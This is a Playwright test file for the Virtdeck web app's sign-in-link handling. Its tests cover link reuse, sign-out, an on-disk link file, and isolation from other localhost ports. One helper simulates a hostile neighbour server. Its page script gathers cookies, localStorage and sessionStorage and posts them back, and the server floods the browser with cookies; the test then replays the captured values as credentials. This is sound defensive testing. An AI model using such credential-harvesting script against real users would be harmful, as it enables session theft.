import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { expect, test } from './fixture.ts'
import { type ServedApp, startServedApp } from './served-app.ts'

test('the link signs in from a page of another site too, and does not stay in the address', async ({ page, app }) => {
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<a href="${app.url}">Virtdeck</a>`)
  })
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  try {
    // To a browser another site than 127.0.0.1.
    await page.goto(`http://localhost:${(site.address() as AddressInfo).port}`)
    await page.getByRole('link').click()
    const add = page.getByRole('button', { name: 'Add host…' }).first()
    await expect(add).toBeVisible()
    expect(page.url()).toBe(`${new URL(app.url).origin}/`)
    await page.reload()
    await expect(add).toBeVisible()
    await page.goto(app.url)
    await expect(add).toBeVisible()
  } finally {
    site.closeAllConnections()
    await new Promise((resolve) => site.close(resolve))
  }
})

test('a link that somebody else used leads to the sign-in page', async ({ page, app, browser }) => {
  await page.goto(app.url)
  const other = await browser.newContext()
  try {
    const stranger = await other.newPage()
    await stranger.goto(app.url)
    await expect(stranger.getByText('used already')).toBeVisible()
  } finally {
    await other.close()
  }
})

test('a server on another port of this address gets nothing from a browser that it could sign in with', async ({
  page: deck,
  app,
}) => {
  const own = new URL(app.url).origin
  await deck.goto(app.url)
  await expect(deck.getByRole('button', { name: 'Add host…' }).first()).toBeVisible()
  const names = (await deck.context().cookies()).map((cookie) => cookie.name)
  const other = await startNeighbour(names)
  try {
    await deck.goto(other.url)
    await expect(deck).toHaveTitle('sent')
    // All that came, as headers and as what its page could read: each is tried in each way in which one may sign in.
    expect(other.seen.length).toBeGreaterThan(2)
    const found = other.seen.join('\n')
    const secrets = found.split(/[\s;,="]+/).filter((word) => word.length >= 32)
    const cookies = other.seen.flatMap((text) => /^cookie: (.*)$/m.exec(text)?.[1] ?? [])
    const tries = [...cookies.map((cookie) => ({ cookie })), ...secrets.map((s) => ({ authorization: `Bearer ${s}` }))]
    for (const headers of [...tries, {}]) {
      const answer = await fetch(`${own}/api/topics/hosts`, { headers: { ...headers, origin: own } })
      expect([answer.status, JSON.stringify(headers)]).toEqual([401, JSON.stringify(headers)])
    }
    // Our own pages sign in by what only our own script can read, and every request has that.
    await deck.goto(own)
    const session = (await deck.evaluate(() => localStorage.getItem('virtdeck.session'))) ?? ''
    expect((await fetch(`${own}/api/topics/hosts`, { headers: { authorization: `Bearer ${session}` } })).status).toBe(
      200,
    )
    expect(found).not.toContain(session)
    // It has set cookies of every name that we had, and many more: nobody is signed out or into something else by it.
    await expect(deck.getByRole('button', { name: 'Add host…' }).first()).toBeVisible()
  } finally {
    await other.stop()
  }
})

test('signing out ends all windows of a browser, and a new link begins again', async ({ page, app, context }) => {
  await page.goto(app.url)
  const add = page.getByRole('button', { name: 'Add host…' }).first()
  await expect(add).toBeVisible()
  const second = await context.newPage()
  await second.goto(new URL(app.url).origin)
  await expect(second.getByRole('button', { name: 'Add host…' }).first()).toBeVisible()
  await page.getByRole('menubar').getByRole('menuitem').first().click()
  await page.getByRole('menuitem', { name: 'Sign out' }).click()
  for (const window of [page, second]) await expect(window.getByText('npx virtdeck link')).toBeVisible()
  await page.goto(await makeLink(app))
  await expect(add).toBeVisible()
})

test('a page on disk signs a browser in without its link in any command line, and is gone then', async ({ page }) => {
  const folder = await mkdtemp(join(tmpdir(), 'virtdeck-link-'))
  const linkFile = join(folder, 'sign-in.html')
  const app = await startServedApp({ args: ['--link-file', linkFile] })
  try {
    expect((await stat(linkFile)).mode & 0o777).toBe(0o600)
    await page.goto(pathToFileURL(linkFile).href)
    await expect(page.getByRole('button', { name: 'Add host…' }).first()).toBeVisible()
    expect(page.url()).toBe(`${new URL(app.url).origin}/`)
    await expect.poll(() => existsSync(linkFile)).toBe(false)
  } finally {
    await app.stop()
    await rm(folder, { recursive: true })
  }
})

async function makeLink(app: ServedApp): Promise<string> {
  const { url, token } = JSON.parse(await readFile(join(app.dataDir, 'engine.json'), 'utf8')) as Record<string, string>
  const headers = { authorization: `Bearer ${token}` }
  const answer = await fetch(`${url}/api/sign-in-links`, { method: 'POST', headers })
  return ((await answer.json()) as { value: { url: string } }).value.url
}

/** Another program's server on 127.0.0.1: writes down what a browser sends to it, and leaves cookies with these names and 200 more. */
async function startNeighbour(names: readonly string[]) {
  const seen: string[] = []
  const page = `<!doctype html><script type="module">
    const texts = [document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage)]
    await fetch('/read', { method: 'POST', body: texts.join(' ') })
    const socket = new WebSocket('ws://' + location.host)
    await new Promise((resolve) => socket.onclose = resolve)
    document.title = 'sent'
  </script>`
  const server = createServer((request, response) => {
    seen.push(
      Object.entries(request.headers)
        .map(([name, value]) => `${name}: ${String(value)}`)
        .join('\n'),
    )
    request.on('data', (chunk: Buffer) => seen.push(chunk.toString()))
    const set = [...names, ...Array.from({ length: 200 }, (_, index) => `other_${index}`)]
    response.setHeader(
      'set-cookie',
      set.map((name) => `${name}=${'x'.repeat(43)}; Path=/; Max-Age=3600`),
    )
    response.setHeader('content-type', 'text/html')
    request.on('end', () => response.end(page))
    request.resume()
  })
  server.on('upgrade', (request, socket) => {
    seen.push(
      Object.entries(request.headers)
        .map(([name, value]) => `${name}: ${String(value)}`)
        .join('\n'),
    )
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    seen,
    async stop() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
